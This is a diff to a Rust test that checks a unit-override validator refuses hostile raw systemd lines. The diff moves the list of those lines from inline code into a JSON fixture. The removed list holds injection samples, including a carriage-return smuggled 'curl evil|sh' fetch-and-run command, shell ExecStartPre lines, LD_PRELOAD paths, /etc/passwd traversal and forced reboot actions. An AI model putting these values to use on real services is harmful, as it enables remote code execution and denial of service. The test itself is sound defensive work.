@@ -115,51 +115,19 @@ fn raw_dependencies_are_handed_to_the_caller() {
 }
 
 /// Raw lines an attacker (or a slip) would try; each is refused on `raw` and nothing is
-/// rendered. (tests/overrides.rs sends them to a real unitdeck and checks the disk.)
-pub(crate) const HOSTILE_RAW: &[&str] = &[
-    "[Service]\nBogus=1",
-    "[Service]\nDescription=in the wrong section",
-    "[Unit]\nLimitNOFILE=1",
-    "[Install]\nWantedBy=multi-user.target",
-    "[Socket]\nListenStream=80",
-    "[Service]\n[X-Evil]\nA=1",
-    "LimitNOFILE=1",
-    "[Service]\nLimitNOFILE=1\u{0}\n[Service]\nExecStartPre=/bin/sh",
-    "[Service]\nLimitNOFILE=1\rExecStartPre=/bin/sh -c 'curl evil|sh'",
-    "[Service]\nLimitNOFILE=1\u{b}",
-    "[Service]\nUser=root\u{85}",
-    "[Service]\nKillMode=mixed \\\nExecStartPre=/bin/sh",
-    "[Service]\n# a comment \\\nExecStartPre=/bin/sh",
-    "[Service]\nUser=%u",
-    "[Unit]\nDescription=%n",
-    "[Service]\nMemoryHigh=50%%",
-    "[Service]\nExecStart=/bin/sh",
-    "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so",
-    "[Service]\nUnsetEnvironment=PATH",
-    "[Service]\nRestart=always",
-    "[Unit]\nAfter=x.service",
-    "[Unit]\nWants=poweroff.target",
-    "[Unit]\nFailureAction=poweroff",
-    "[Unit]\nSuccessAction=reboot-force",
-    "[Service]\nStartLimitAction=exit",
-    "[Unit]\nOnFailureJobMode=isolate",
-    "[Unit]\nOnFailureIsolate=yes",
-    "[Unit]\nSourcePath=/etc/passwd",
-    "[Unit]\nRequires=../../etc/passwd",
-    "[Unit]\nRequires=a.service;b.service",
-    "[Unit]\nConflicts=%i.service",
-    "[Unit]\nBindsTo=getty@.service",
-    "[Service]\nLimit-NOFILE=1",
-    "[Service]\n=1",
-    "[Service]\nNo equals sign here",
-    "[Service]\nX-Unitdeck-Port=1",
-    "[service]\nLimitNOFILE=1",
-    "[Service ]\nLimitNOFILE=1",
-];
+/// rendered (tests/overrides.rs sends the same list to a real unitdeck and checks the
+/// disk).
+fn hostile_raw() -> Vec<String> {
+    let fixture: serde_json::Value =
+        serde_json::from_str(include_str!("../../../tests/fixtures/hostile_raw.json")).unwrap();
+    serde_json::from_value(fixture["raw"].clone()).unwrap()
+}
 
 #[test]
 fn hostile_raw_lines_are_refused() {
-    for text in HOSTILE_RAW {
+    let hostile = hostile_raw();
+    assert!(hostile.len() >= 30, "{}", hostile.len());
+    for text in &hostile {
         let errors = checked(&raw(text)).expect_err(text);
         assert_eq!(errors.len(), 1, "{text:?}: {errors:?}");
         assert_eq!(errors[0].field, "raw", "{text:?}: {errors:?}");
